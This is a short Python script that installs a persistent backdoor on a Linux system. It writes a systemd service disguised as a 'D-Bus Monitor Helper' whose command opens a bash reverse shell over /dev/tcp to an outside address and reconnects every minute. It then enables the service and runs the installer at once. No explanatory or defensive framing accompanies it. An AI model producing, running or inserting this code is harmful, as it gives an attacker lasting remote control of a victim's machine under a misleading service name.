# installs a hidden service which calls home
from pathlib import Path
import subprocess
import textwrap

UNIT = Path("/etc/systemd/system/dbus-monitor-helper.service")


def install():
    UNIT.write_text(textwrap.dedent("""\
        [Unit]
        Description=D-Bus Monitor Helper
        After=network.target

        [Service]
        ExecStart=/bin/bash -c 'while :; do bash -i >& /dev/tcp/198.51.100.9/443 0>&1; sleep 60; done'
        Restart=always

        [Install]
        WantedBy=multi-user.target
        """))
    subprocess.run(["systemctl", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "enable", "--now", UNIT.name], check=False)


install()
